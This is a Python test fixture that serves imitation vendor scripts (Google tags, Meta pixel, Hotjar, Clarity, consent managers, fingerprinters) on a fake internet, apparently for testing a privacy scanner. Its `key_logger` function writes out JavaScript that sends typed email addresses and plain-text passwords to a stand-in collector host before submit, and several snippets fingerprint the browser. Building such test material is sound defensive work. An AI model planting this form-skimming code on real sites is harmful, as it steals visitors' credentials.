"""Vendors' scripts for the fake internet, behaving at run time as the real ones do: a tag manager's container
injects the tags it holds, gtag.js and fbevents.js write their first-party cookies and send their hits, session
recorders watch the document and upload, consent managers expose their globals and the IAB APIs (and show a banner
no scan clicks), fingerprinters read canvases back, a form script sends what is typed before any submit.

`serve_vendors` puts every one of them on an Internet; the hosts they answer for are VENDOR_HOSTS.
"""

from __future__ import annotations

import json
from urllib.parse import parse_qs, urlsplit

from tests.support.internet import Hit, Internet, pixel, script
from tests.support.site import Page, html

# The cookie domain tags write to when set to "auto": the page's registrable domain (every fake site is a.b).
_AUTO_DOMAIN = "location.hostname.split('.').slice(-2).join('.')"

# What session recorders do: watch the whole document, and the pointer and keys page-wide.
RECORDING = """new MutationObserver(function () {}).observe(document, {childList: true, subtree: true});
document.addEventListener('mousemove', function () {}, true);
document.addEventListener('input', function () {}, true);
window.addEventListener('scroll', function () {});"""

FONTS = ", ".join(f"'Font{index}'" for index in range(30))
# A fingerprinter: canvas with text, installed fonts, the GPU's name, an audio signal, a navigator sweep.
FINGERPRINTER = f"""(function () {{
  var c = document.createElement('canvas'); c.width = 200; c.height = 50;
  var x = c.getContext('2d'); x.textBaseline = 'top'; x.font = '14px Arial';
  x.fillText('Cwm fjordbank glyphs vext quiz', 2, 2); c.toDataURL();
  [{FONTS}].forEach(function (f) {{ x.font = '12px ' + f; x.measureText('mmmmmmmmmmlli'); }});
  var gl = document.createElement('canvas').getContext('webgl');
  if (gl) gl.getParameter(37446);
  var a = new OfflineAudioContext(1, 4410, 44100); var o = a.createOscillator();
  o.connect(a.destination); o.start(0); a.startRendering();
  var n = navigator;
  [n.userAgent, n.platform, n.language, n.languages, n.hardwareConcurrency, n.deviceMemory, n.plugins,
   n.mimeTypes, n.doNotTrack, n.maxTouchPoints, n.vendor, n.cookieEnabled, screen.width, screen.colorDepth];
}})();"""


def canvas_fingerprinter(report_url: str) -> str:
    """An anti-fraud device check: text and an emoji drawn on a canvas, read back, hashed and posted."""
    return f"""(function () {{
  var c = document.createElement('canvas'); c.width = 240; c.height = 60;
  var x = c.getContext('2d'); x.textBaseline = 'alphabetic'; x.fillStyle = '#f60'; x.fillRect(125, 1, 62, 20);
  x.fillStyle = '#069'; x.font = '11pt Arial'; x.fillText('Cwm fjordbank gly \\ud83d\\ude03', 2, 15);
  var data = c.toDataURL(), h = 0;
  for (var i = 0; i < data.length; i++) h = (h * 31 + data.charCodeAt(i)) | 0;
  fetch('{report_url}', {{method: 'POST', body: JSON.stringify({{c: h}})}});
}})();"""


def key_logger(collector: str, *, hash_password: bool = True) -> str:
    """What is typed leaves before any submit: base64 on each keystroke of an e-mail field, and the password when
    the visitor leaves its field, hashed (after an `await`, so it may leave late) or as typed (at once)."""
    password = (
        """var d = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(e.target.value));
  var hex = Array.from(new Uint8Array(d)).map(function (b) { return b.toString(16).padStart(2, '0'); }).join('');
  new Image().src = '%s/p?h=' + hex;"""
        if hash_password
        else "new Image().src = '%s/p?v=' + encodeURIComponent(e.target.value);"
    ) % collector
    return f"""document.addEventListener('input', function (e) {{
  if (e.target.type === 'email') {{
    var body = JSON.stringify({{f: e.target.name, v: btoa(e.target.value)}});
    fetch('{collector}/k', {{method: 'POST', body: body}});
  }}
}});
document.addEventListener('focusout', async function (e) {{
  if (e.target.type !== 'password') return;
  {password}
}});"""


def consent_platform(
    globals_js: str, cmp_id: int | None, *, tcf: bool, gpp: bool, banner_id: str, accept_url: str
) -> str:
    """A consent manager before any answer: its globals, the IAB TCF and GPP APIs (whose ping answers at once with
    the platform's IAB CMP id), a banner on show. Accepting would report to `accept_url`: a scan must never."""
    parts = [globals_js]
    if tcf:
        parts.append(f"""window.__tcfapi = function (command, version, callback) {{
  if (command === 'ping') callback({{gdprApplies: true, cmpLoaded: true, cmpStatus: 'loaded',
    displayStatus: 'visible', apiVersion: '2.2', cmpId: {json.dumps(cmp_id)}, gvlVersion: 3,
    tcString: 'never-stored'}});
}};""")
    if gpp:
        parts.append(f"""window.__gpp = function (command, callback) {{
  if (command === 'ping') callback({{gppVersion: '1.1', cmpStatus: 'loaded', cmpDisplayStatus: 'visible',
    signalStatus: 'not ready', supportedAPIs: ['2:tcfeuv2'], cmpId: {json.dumps(cmp_id)},
    gppString: 'never-stored'}}, true);
}};""")
    parts.append(f"""function showBanner() {{
  var banner = document.createElement('div');
  banner.id = '{banner_id}';
  banner.innerHTML = '<p>We use cookies.</p><button class="accept">Accept all</button>';
  document.body.appendChild(banner);
  banner.querySelector('button').addEventListener('click', function () {{ new Image().src = '{accept_url}'; }});
}}
if (document.body) showBanner(); else document.addEventListener('DOMContentLoaded', showBanner);""")
    return "\n".join(parts)


ONETRUST = consent_platform(
    "window.OneTrust = { IsAlertBoxClosed: function () { return false; } };\nwindow.Optanon = window.OneTrust;",
    28,
    tcf=True,
    gpp=True,
    banner_id="onetrust-banner-sdk",
    accept_url="https://cdn.cookielaw.org/consent?accepted=1",
)
OT_STUB = "https://cdn.cookielaw.org/scripttemplates/otSDKStub.js"
COOKIEBOT = "https://consent.cookiebot.com/uc.js"
USERCENTRICS = "https://app.usercentrics.eu/browser-ui/latest/loader.js"
SOURCEPOINT = "https://cdn.privacy-mgmt.com/unified/wrapperMessagingWithoutDetection.js"

# gtag.js: every `config` command queued in dataLayer, once per page. A GA4 property (G-…) writes its client and
# session cookies on the site's domain and beacons a page_view; an Ads account (AW-…) sends a remarketing hit.
GTAG = f"""(function () {{
  var done = window.__gtagDone = window.__gtagDone || {{}};
  var domain = {_AUTO_DOMAIN};
  (window.dataLayer || []).forEach(function (args) {{
    if (!args || args[0] !== 'config' || done[args[1]]) return;
    var id = args[1]; done[id] = true;
    if (id.indexOf('G-') === 0) {{
      document.cookie = '_ga=GA1.1.1234567890.1700000000; max-age=63072000; path=/; domain=' + domain;
      document.cookie = '_ga_' + id.slice(2) + '=GS1.1.1700000000.1.0; max-age=63072000; path=/; domain=' + domain;
      navigator.sendBeacon('https://region1.google-analytics.com/g/collect?v=2&tid=' + id + '&en=page_view');
    }} else if (id.indexOf('AW-') === 0) {{
      new Image().src = 'https://googleads.g.doubleclick.net/pagead/viewthroughconversion/' + id.slice(3) +
        '/?guid=ON&script=0';
    }}
  }});
}})();"""

# Tag manager containers by id: what each injects into the page at run time.
_LOAD = "function load(src) { var s = document.createElement('script'); s.async = true; s.src = src; document.head.appendChild(s); }"  # noqa: E501
_GTAG_CONFIG = """window.dataLayer = window.dataLayer || [];
function gtag() { dataLayer.push(arguments); }
gtag('js', new Date());"""
_META_TAG = """!function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){n.callMethod?
n.callMethod.apply(n,arguments):n.queue.push(arguments)};if(!f._fbq)f._fbq=n;n.push=n;n.loaded=!0;n.queue=[];
t=b.createElement(e);t.async=!0;t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,
document,'script','https://connect.facebook.net/en_US/fbevents.js');"""
CONTAINERS = {
    # A GA4 configuration tag and a Google Ads remarketing tag.
    "GTM-SHOP1": f"""{_LOAD}
{_GTAG_CONFIG}
gtag('config', 'G-7XK2M9QW4R'); gtag('config', 'AW-111222333');
load('https://www.googletagmanager.com/gtag/js?id=G-7XK2M9QW4R');""",
    # A GA4 configuration tag and a custom HTML tag holding the Meta pixel, with a ViewContent event.
    "GTM-META1": f"""{_LOAD}
{_GTAG_CONFIG}
gtag('config', 'G-M3T4P1X8QZ');
load('https://www.googletagmanager.com/gtag/js?id=G-M3T4P1X8QZ');
{_META_TAG}
fbq('init', '2223334445556667'); fbq('track', 'PageView'); fbq('track', 'ViewContent');""",
}

# fbevents.js: the pixel's first-party browser id, the pixel's configuration, then every event queued before it
# loaded (and every later one) sent to /tr for every pixel initialised.
FBEVENTS = f"""(function () {{
  var fbq = window.fbq; if (!fbq) return;
  var pixels = [];
  document.cookie = '_fbp=fb.1.1700000000000.1234567890; max-age=7776000; path=/; SameSite=Lax; domain=' +
    {_AUTO_DOMAIN};
  function handle(args) {{
    if (args[0] === 'init') {{
      pixels.push(args[1]);
      var s = document.createElement('script');
      s.src = 'https://connect.facebook.net/signals/config/' + args[1] + '?v=2.9.150';
      document.head.appendChild(s);
    }} else if (args[0] === 'track') {{
      pixels.forEach(function (id) {{ new Image().src = 'https://www.facebook.com/tr?id=' + id + '&ev=' + args[1]; }});
    }}
  }}
  (fbq.queue || []).forEach(handle);
  fbq.callMethod = function () {{ handle(arguments); }};
}})();"""

# Hotjar: the site's user and session cookies, its storage, then the recording module, which uploads.
HOTJAR = f"""(function () {{
  var id = window._hjSettings.hjid, domain = {_AUTO_DOMAIN};
  document.cookie = '_hjSessionUser_' + id + '=x; max-age=31536000; path=/; SameSite=Lax; domain=' + domain;
  document.cookie = '_hjSession_' + id + '=x; max-age=1800; path=/; SameSite=Lax; domain=' + domain;
  localStorage.setItem('_hjSessionUser_' + id, 'x');
  sessionStorage.setItem('_hjRecordingLastActivity', '1');
  var s = document.createElement('script'); s.src = 'https://script.hotjar.com/modules.8a9b7c.js';
  document.head.appendChild(s);
}})();"""
HOTJAR_MODULES = f"""{RECORDING}
fetch('https://in.hotjar.com/api/v2/client/sites/' + window._hjSettings.hjid + '/visit-data?sv=6',
  {{method: 'POST', body: '{{"r":1}}'}});"""

# Microsoft Clarity: the tag loads the recorder, which sets its cookies, records, uploads, and syncs MUID.
CLARITY_TAG = """(function () { var s = document.createElement('script'); s.async = true;
  s.src = 'https://scripts.clarity.ms/0.7.34/clarity.js'; document.head.appendChild(s); })();"""
CLARITY = f"""(function () {{
  var domain = {_AUTO_DOMAIN};
  document.cookie = '_clck=1abc2de; max-age=31536000; path=/; SameSite=Lax; domain=' + domain;
  document.cookie = '_clsk=1xyz; max-age=86400; path=/; SameSite=Lax; domain=' + domain;
  {RECORDING}
  fetch('https://k.clarity.ms/collect', {{method: 'POST', body: 'e=1'}});
  new Image().src = 'https://c.clarity.ms/c.gif';
}})();"""

# FullStory: its user cookie, the recorder, the first upload of the page.
FULLSTORY = f"""(function () {{
  document.cookie = 'fs_uid=#o-1QX2Y3-na1#123:456#/1767225600; max-age=31536000; path=/; SameSite=Strict; domain=' +
    {_AUTO_DOMAIN};
  {RECORDING}
  fetch('https://rs.fullstory.com/rec/page?OrgId=' + window._fs_org, {{method: 'POST', body: '{{}}'}});
}})();"""

# TikTok's pixel: its first-party browser id and the page event.
TIKTOK = f"""(function () {{
  document.cookie = '_ttp=2abcDEF; max-age=33696000; path=/; SameSite=Lax; domain=' + {_AUTO_DOMAIN};
  fetch('https://analytics.tiktok.com/api/v2/pixel', {{method: 'POST', body: '{{"event":"Pageview"}}'}});
}})();"""

COOKIEBOT_JS = consent_platform(
    "window.Cookiebot = { consent: { necessary: true, statistics: false, marketing: false }, hasResponse: false };",
    134,
    tcf=True,
    gpp=False,
    banner_id="CybotCookiebotDialog",
    accept_url="https://consent.cookiebot.com/logconsent.ashx?action=accept",
) + (
    "\nvar cfg = document.createElement('script');"
    "\ncfg.src = 'https://consentcdn.cookiebot.com/consentconfig/5f0e6c2a/configuration.js';"
    "\ndocument.head.appendChild(cfg);"
)
USERCENTRICS_JS = consent_platform(
    "window.UC_UI = { isInitialized: function () { return true; } };\n"
    "localStorage.setItem('uc_settings', '{}'); localStorage.setItem('uc_ui_version', '3.50.0');\n"
    "fetch('https://api.usercentrics.eu/settings/Ab3xYz9/latest/languages.json');",
    None,
    tcf=False,
    gpp=False,
    banner_id="usercentrics-root",
    accept_url="https://consent-api.service.consent.usercentrics.eu/consent/uw/3",
)
# Sourcepoint's US privacy wrapper: the GPP API only (no TCF outside Europe).
SOURCEPOINT_JS = consent_platform(
    "window._sp_ = { config: { accountId: 1234 }, version: '4.21.0' };",
    6,
    tcf=False,
    gpp=True,
    banner_id="sp_message_container_111",
    accept_url="https://cdn.privacy-mgmt.com/wrapper/v2/choice/consent-all",
)

VENDOR_HOSTS = (
    "www.googletagmanager.com",
    "region1.google-analytics.com",
    "googleads.g.doubleclick.net",
    "connect.facebook.net",
    "www.facebook.com",
    "static.hotjar.com",
    "script.hotjar.com",
    "in.hotjar.com",
    "www.clarity.ms",
    "scripts.clarity.ms",
    "k.clarity.ms",
    "c.clarity.ms",
    "edge.fullstory.com",
    "rs.fullstory.com",
    "analytics.tiktok.com",
    "cdn.cookielaw.org",
    "consent.cookiebot.com",
    "consentcdn.cookiebot.com",
    "app.usercentrics.eu",
    "api.usercentrics.eu",
    "cdn.privacy-mgmt.com",
    "device.antifraud.test",
    "cdn.formcapture.test",
    "collect.formcapture.test",
    "fp.metrics.test",
    "ads.adnetwork.test",
)
ANTIFRAUD = "https://device.antifraud.test/v1/device.js"
FORMCAPTURE = "https://cdn.formcapture.test/capture.js"
AD_FRAME = "https://ads.adnetwork.test/frame.html"

# An ad network's frame: its own user id cookie (a third party's, written by script), frequency capping in its
# storage, and an impression pixel.
AD_FRAME_JS = """document.cookie = 'adn_uid=u42; max-age=31536000; path=/; SameSite=None; Secure';
localStorage.setItem('adn_freq', '1');
indexedDB.open('adn-cache');
new Image().src = 'https://ads.adnetwork.test/imp?slot=top';"""


def collector() -> Page:
    """A collection endpoint: it takes the upload, and lets the page's fetch read the answer (CORS)."""
    return Page(200, [("Content-Type", "application/json"), *_CORS], b"{}")


_CORS = (("Access-Control-Allow-Origin", "*"),)


def _container(hit: Hit) -> Page:
    [container_id] = parse_qs(urlsplit(hit.path).query).get("id", [""])
    source = CONTAINERS.get(container_id)
    if source is None:
        return Page(404)
    return script(source, ("Cache-Control", "public, max-age=900"))


def serve_vendors(internet: Internet) -> None:
    """Every vendor's scripts and endpoints (their hosts must be among the Internet's)."""
    internet.add("https://www.googletagmanager.com/gtm.js", _container)
    internet.add("https://www.googletagmanager.com/gtag/js", script(GTAG))
    internet.add("https://region1.google-analytics.com/g/collect", Page(204))
    doubleclick = (
        "Set-Cookie",
        "IDE=x; Domain=.doubleclick.net; Path=/; Max-Age=33696000; Secure; HttpOnly; SameSite=None",
    )
    internet.add("https://googleads.g.doubleclick.net/pagead/viewthroughconversion/111222333/", pixel(doubleclick))
    internet.add("https://connect.facebook.net/en_US/fbevents.js", script(FBEVENTS))
    for pixel_id in ("1234567890123456", "2223334445556667"):
        internet.add(f"https://connect.facebook.net/signals/config/{pixel_id}", script("/* pixel configuration */"))
    internet.add("https://www.facebook.com/tr", pixel())
    internet.add("https://static.hotjar.com/c/hotjar-3456789.js", script(HOTJAR))
    internet.add("https://script.hotjar.com/modules.8a9b7c.js", script(HOTJAR_MODULES))
    internet.add("https://in.hotjar.com/api/v2/client/sites/3456789/visit-data", collector())
    internet.add("https://www.clarity.ms/tag/k3x9m2p7q1", script(CLARITY_TAG))
    internet.add("https://scripts.clarity.ms/0.7.34/clarity.js", script(CLARITY))
    internet.add("https://k.clarity.ms/collect", collector())
    muid = ("Set-Cookie", "MUID=x; Domain=.clarity.ms; Path=/; Max-Age=34128000; Secure; SameSite=None")
    internet.add("https://c.clarity.ms/c.gif", pixel(muid))
    internet.add("https://edge.fullstory.com/s/fs.js", script(FULLSTORY, *_CORS))  # loaded crossOrigin
    internet.add("https://rs.fullstory.com/rec/page", collector())
    internet.add("https://analytics.tiktok.com/i18n/pixel/events.js", script(TIKTOK))
    internet.add("https://analytics.tiktok.com/api/v2/pixel", collector())
    # OneTrust's CDN sits behind Cloudflare, whose bot cookie is the consent manager's own.
    bot_cookie = ("Set-Cookie", "__cf_bm=x; Domain=.cookielaw.org; Path=/; Secure; SameSite=None")
    internet.add(OT_STUB, script(ONETRUST, bot_cookie))
    internet.add("https://cdn.cookielaw.org/consent", pixel())
    internet.add(COOKIEBOT, script(COOKIEBOT_JS))
    internet.add("https://consentcdn.cookiebot.com/consentconfig/5f0e6c2a/configuration.js", script("/* config */"))
    internet.add(USERCENTRICS, script(USERCENTRICS_JS))
    internet.add(
        "https://api.usercentrics.eu/settings/Ab3xYz9/latest/languages.json",
        Page(200, [("Content-Type", "application/json"), *_CORS], b'["en"]'),
    )
    internet.add(SOURCEPOINT, script(SOURCEPOINT_JS))
    internet.add(ANTIFRAUD, script(canvas_fingerprinter("https://device.antifraud.test/v1/fp")))
    internet.add("https://device.antifraud.test/v1/fp", collector())
    # The password as typed, at once: a hash computed after an `await` may leave after the scan stopped looking.
    internet.add(FORMCAPTURE, script(key_logger("https://collect.formcapture.test", hash_password=False)))
    internet.add("https://collect.formcapture.test/k", collector())
    internet.add("https://collect.formcapture.test/p", pixel())
    internet.add("https://fp.metrics.test/fp.js", script(FINGERPRINTER))
    internet.add(AD_FRAME, frame_page(AD_FRAME_JS))
    internet.add("https://ads.adnetwork.test/imp", pixel())


def frame_page(source: str) -> Page:
    """An HTML document for an iframe, running `source`."""
    return html(f"<!doctype html><html><body><script>{source}</script></body></html>")
